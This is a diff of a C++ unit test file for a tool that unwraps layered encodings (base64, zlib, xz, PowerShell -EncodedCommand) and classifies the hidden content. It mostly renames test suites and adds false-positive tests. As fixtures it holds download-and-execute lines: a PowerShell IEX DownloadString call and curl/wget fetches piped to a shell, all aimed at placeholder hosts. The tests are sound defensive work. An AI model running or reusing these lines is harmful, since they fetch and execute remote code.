@@ -25,7 +25,7 @@ std::string Chain(const Layer& l) {
 const char kPs[] =
     "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')";
 
-TEST(Classify, Families) {
+TEST(UnpackClassify, Families) {
   EXPECT_EQ(Classify(tv::kSnippet), Content::kPython);
   EXPECT_EQ(Classify("curl -s http://example.invalid/x | sh"), Content::kShell);
   EXPECT_EQ(Classify("#!/bin/bash\nwget -q http://h/p -O /tmp/p && chmod +x /tmp/p"),
@@ -43,7 +43,7 @@ TEST(Classify, Families) {
   EXPECT_EQ(ContentName(Content::kPowerShell), "powershell");
 }
 
-TEST(Unwrap, SingleLayers) {
+TEST(UnpackUnwrap, SingleLayers) {
   DecodeLimits lim;
   struct Case { std::string blob; std::string chain; };
   const Case cases[] = {
@@ -73,7 +73,7 @@ TEST(Unwrap, SingleLayers) {
 
 // snippet -> zlib -> base64 -> bz2 -> hex -> xz -> base64 -> base32 ->
 // reverse: eight layers (DecodeLimits' default max_layers).
-TEST(Unwrap, DeepNesting) {
+TEST(UnpackUnwrap, DeepNesting) {
   std::string code = "import os\nos.system('echo layered')\n";
   std::string s = tu::B64(tu::Xz(tu::Hex(tu::Bz2(tu::B64(tu::Zlib(code))))));
   std::string b32 = tu::B32(s);
@@ -101,7 +101,18 @@ TEST(Unwrap, DeepNesting) {
   for (const Layer& l : Unwrap(blob, few)) EXPECT_NE(l.content, Content::kPython);
 }
 
-TEST(Unwrap, NothingFromNoise) {
+// Text whose first two bytes happen to pass zlib's header check ("HK":
+// 0x484b % 31 == 0) is still text.
+TEST(UnpackUnwrap, TextThatLooksLikeAZlibHeader) {
+  std::string key = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
+  std::vector<Layer> layers = Unwrap(tu::B64(key), DecodeLimits());
+  ASSERT_EQ(layers.size(), 1u);
+  EXPECT_EQ(Chain(layers[0]), "base64");
+  EXPECT_EQ(layers[0].data, key);
+  EXPECT_EQ(layers[0].content, Content::kText);
+}
+
+TEST(UnpackUnwrap, NothingFromNoise) {
   DecodeLimits lim;
   EXPECT_TRUE(Unwrap(tu::Random(1 << 16, 2), lim).empty());
   // Text in the base64 alphabet that is not base64 of anything meaningful.
@@ -109,11 +120,15 @@ TEST(Unwrap, NothingFromNoise) {
   EXPECT_TRUE(Unwrap(b64ish, lim).empty());
   EXPECT_TRUE(Unwrap("ThisIsJustAVeryLongIdentifierName", lim).empty());
   EXPECT_TRUE(Unwrap("deadbeefdeadbeefdeadbeef", lim).empty());
+  EXPECT_TRUE(Unwrap("==== a banner, not reversed base64 ====", lim).empty());
+  // Reversed, this holds "noitaredef " ("def "): one indicator is no code.
+  EXPECT_TRUE(Unwrap("The endpoint for console federation, if connecting "
+                     "from behind a proxy.", lim).empty());
   EXPECT_TRUE(Unwrap(tv::kSnippet, lim).empty());  // the blob is no layer
   EXPECT_TRUE(Unwrap("", lim).empty());
 }
 
-TEST(Unwrap, BombsStayWithinLimits) {
+TEST(UnpackUnwrap, BombsStayWithinLimits) {
   DecodeLimits lim;
   lim.max_output = 1 << 20;
   lim.max_total = 4 << 20;
@@ -129,7 +144,7 @@ TEST(Unwrap, BombsStayWithinLimits) {
   }
 }
 
-TEST(Unwrap, PowerShellEncodedCommand) {
+TEST(UnpackUnwrap, PowerShellEncodedCommand) {
   std::string enc = tu::B64(tu::Utf16le(kPs));
   // A base64 UTF-16LE blob on its own.
   std::vector<Layer> layers = Unwrap(enc, DecodeLimits());
@@ -146,7 +161,7 @@ TEST(Unwrap, PowerShellEncodedCommand) {
   EXPECT_EQ(layers[1].data, kPs);
 }
 
-TEST(FindPowerShellEncoded, Spellings) {
+TEST(UnpackFindPowerShellEncoded, Spellings) {
   DecodeLimits lim;
   std::string enc = tu::B64(tu::Utf16le(kPs));
   for (const char* opt : {"-EncodedCommand", "-enc", "-e", "-ec", "/ENC", "-eNcOdEd",
@@ -165,7 +180,7 @@ TEST(FindPowerShellEncoded, Spellings) {
   EXPECT_TRUE(FindPowerShellEncoded("-enc " + tu::B64(tu::Random(90, 3)), lim).empty());
 }
 
-TEST(Unwrap, MarshalCodeAndItsStrings) {
+TEST(UnpackUnwrap, MarshalCodeAndItsStrings) {
   std::string blob = tu::B64(tu::Zlib(tv::kMarshal311));
   std::vector<Layer> layers = Unwrap(blob, DecodeLimits());
   ASSERT_EQ(layers.size(), 2u);
@@ -178,7 +193,7 @@ TEST(Unwrap, MarshalCodeAndItsStrings) {
   EXPECT_EQ(layers[1].content, Content::kPython);
 }
 
-TEST(Unwrap, ExecutableKeptOtherBinaryNot) {
+TEST(UnpackUnwrap, ExecutableKeptOtherBinaryNot) {
   std::string exe = "MZ" + tu::Random(500, 8);
   std::vector<Layer> layers = Unwrap(tu::B64(exe), DecodeLimits());
   ASSERT_EQ(layers.size(), 1u);
